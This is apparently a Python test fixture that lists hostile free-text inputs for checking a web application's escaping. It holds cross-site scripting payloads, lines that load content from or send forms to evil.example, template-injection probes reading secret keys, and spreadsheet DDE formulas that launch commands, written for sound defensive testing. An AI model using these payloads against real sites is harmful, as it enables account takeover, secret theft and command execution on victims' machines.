"""Hostile input, as data: what a resident (or an insider) may type into any
free-text field. Every payload that could run script calls ``__pwned(<name>)``
or sets ``document.title`` to ``PWNED``: the browser test defines ``__pwned``
before the page's own scripts and fails when it is ever called, when the title
changes or when a dialog opens.

``Payload.text`` is what is typed; ``Payload.kind`` says what it tries, so that
each check knows what to look for (``html`` in pages, ``formula`` in
spreadsheets, ``header`` in email subjects, ``template`` in anything rendered).
"""

from dataclasses import dataclass

SENTINEL = "__pwned"
PWNED_TITLE = "PWNED"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    kind: str  # html, url, css, template, unicode, formula, header, size

    def __str__(self):
        return self.name


def _p(name, kind, text):
    return Payload(name=name, text=text, kind=kind)


PAYLOADS: list[Payload] = [
    # Script and event-handler HTML ----------------------------------------------
    _p("script", "html", f"<script>{SENTINEL}('script')</script>"),
    _p("script-src", "html", "<script src=//evil.example/x.js></script>意见"),
    _p("script-upper", "html", f"<SCRIPT>{SENTINEL}('upper')</SCRIPT>"),
    _p("img-onerror", "html", f"<img src=x onerror={SENTINEL}('img')>"),
    _p("img-onerror-quoted", "html", f'<img src="x" onerror="{SENTINEL}(\'imgq\')">'),
    _p("body-onload", "html", f"<body onload={SENTINEL}('body')>"),
    _p(
        "iframe-srcdoc",
        "html",
        f"<iframe srcdoc=\"<script>{SENTINEL}('if')</script>\">",
    ),
    _p("details-ontoggle", "html", f"<details open ontoggle={SENTINEL}('det')>x"),
    _p("input-autofocus", "html", f"<input autofocus onfocus={SENTINEL}('focus')>"),
    _p("attr-break-double", "html", f'" onmouseover="{SENTINEL}(\'dq\')" x="'),
    _p("attr-break-single", "html", f"' onfocus='{SENTINEL}(\"sq\")' autofocus x='"),
    _p("textarea-break", "html", f"</textarea><script>{SENTINEL}('ta')</script>"),
    _p("title-break", "html", f"</title><script>{SENTINEL}('tt')</script>"),
    _p("script-context-break", "html", f"</script><script>{SENTINEL}('sc')</script>"),
    _p("js-string-break", "html", f"';{SENTINEL}('js');//\";{SENTINEL}('js2');//"),
    _p("html-comment", "html", f"<!--<img src=x onerror={SENTINEL}('cm')>-->"),
    _p("entities", "html", f"&lt;script&gt;{SENTINEL}('ent')&lt;/script&gt;"),
    _p("svg-onload", "html", f"<svg onload={SENTINEL}('svg')>"),
    _p("svg-script", "html", f"<svg><script>{SENTINEL}('svgs')</script></svg>"),
    _p(
        "svg-animate",
        "html",
        f'<svg><animate onbegin={SENTINEL}("anim") attributeName=x dur=1s>',
    ),
    _p("math-href", "html", f"<math href=javascript:{SENTINEL}('math')>x</math>"),
    _p(
        "meta-refresh",
        "html",
        '<meta http-equiv="refresh" content="0;url=//evil.example">',
    ),
    _p("base-href", "html", '<base href="//evil.example/">'),
    _p(
        "form-action",
        "html",
        '<form action="//evil.example"><button>提交</button></form>',
    ),
    _p(
        "template-tag-html",
        "html",
        f"<template><script>{SENTINEL}()</script></template>",
    ),
    # javascript: and data: URLs ---------------------------------------------------
    _p("js-url", "url", f"javascript:{SENTINEL}('url')"),
    _p("js-url-anchor", "html", f"<a href=\"javascript:{SENTINEL}('a')\">点我</a>"),
    _p("js-url-mixed-case", "url", f"JaVaScRiPt:{SENTINEL}('mc')"),
    _p("js-url-entity", "url", f"java&#x09;script:{SENTINEL}('tab')"),
    _p("data-url", "url", f"data:text/html,<script>{SENTINEL}('data')</script>"),
    _p("vbscript-url", "url", "vbscript:msgbox(1)"),
    # CSS --------------------------------------------------------------------------
    _p("css-expression", "css", f"<div style=\"width:expression({SENTINEL}('ex'))\">"),
    _p("css-url", "css", "<style>body{background:url(//evil.example/x)}</style>"),
    _p("css-import", "css", "<style>@import 'https://evil.example/x.css';</style>"),
    _p(
        "css-attr",
        "css",
        '<p style="position:fixed;top:0;left:0;width:100%">假通知</p>',
    ),
    # Template syntax ----------------------------------------------------------------
    _p(
        "django-var", "template", "{{ request.user.password }}{{ settings.SECRET_KEY }}"
    ),
    _p("django-tag", "template", "{% debug %}{% load static %}{% now 'Y' %}"),
    _p("jinja-expr", "template", "{{ 7*7 }}{{ ''.__class__.__mro__ }}"),
    _p("jinja-stmt", "template", "{% for x in range(3) %}x{% endfor %}"),
    _p(
        "angular-expr", "template", f"{{{{constructor.constructor('{SENTINEL}()')()}}}}"
    ),
    _p("format-string", "template", "%s%s%(name)s{0}{name}"),
    # Unicode tricks -----------------------------------------------------------------
    _p("bidi-override", "unicode", "正常意见\u202egnp.exe\u202c结束"),
    _p("bidi-isolates", "unicode", "\u2066\u2067\u2068隔离\u2069 \u200f\u200e"),
    _p("zero-width", "unicode", "零\u200b宽\u200c字\u200d符\ufeff测试"),
    _p("zero-width-script", "html", f"<scr\u200bipt>{SENTINEL}('zw')</scr\u200bipt>"),
    _p("fullwidth-script", "unicode", f"＜script＞{SENTINEL}('fw')＜/script＞"),
    _p("fullwidth-quotes", "unicode", "＂ onmouseover＝＂alert(1)＂"),
    _p("homoglyph", "unicode", "аdmin贵阳市民政局（官方）"),
    _p("combining-flood", "unicode", "Z" + "\u0336\u0335\u0334" * 40),
    _p("emoji-astral", "unicode", "👍🏽👨‍👩‍👧 𠀀𪚥 志愿"),
    _p("nul-and-controls", "unicode", "控制\x01\x07\x1b[31m字符"),
    # Spreadsheet formulas ----------------------------------------------------------
    _p("formula-hyperlink", "formula", '=HYPERLINK("https://evil.example","点击")'),
    _p("formula-plus-cmd", "formula", "+cmd|' /C calc'!A0"),
    _p("formula-minus", "formula", "-2+3"),
    _p("formula-at", "formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    _p("formula-dde", "formula", "=cmd|' /C notepad'!'A1'"),
    _p("formula-tab", "formula", "\t=1+1"),
    _p("formula-cr", "formula", "\r=1+1"),
    _p("formula-fullwidth", "formula", "＝SUM(1,2)"),
    # Email header injection --------------------------------------------------------
    _p("crlf-bcc", "header", "标题\r\nBcc: victim@evil.example"),
    _p("lf-header", "header", "标题\nContent-Type: text/html\n\n<script>x</script>"),
    _p("unicode-line-sep", "header", "标题\u2028Bcc: x@evil.example\u2029"),
    # Size ----------------------------------------------------------------------------
    _p("very-long", "size", "很长的意见" * 2000),
    _p("empty", "size", ""),
    _p("whitespace-only", "size", " \t\u3000\n \r\n "),
    _p("single-char", "size", "<"),
]

assert len(PAYLOADS) >= 50
assert len({payload.name for payload in PAYLOADS}) == len(PAYLOADS)

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def payload_named(name: str) -> Payload:
    return next(payload for payload in PAYLOADS if payload.name == name)
